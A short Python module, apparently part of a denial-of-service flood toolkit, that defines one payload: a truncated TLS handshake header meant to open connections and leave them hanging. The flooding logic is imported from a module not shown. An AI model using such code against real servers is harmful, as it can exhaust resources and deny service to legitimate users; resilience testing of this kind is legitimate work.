"""Begins a TLS handshake, and does not go on."""

from attacks.flood import Part, main


def parts() -> list[Part]:
    return [b"\x16\x03\x01\x02\x00\x01"]


if __name__ == "__main__":
    main(parts)
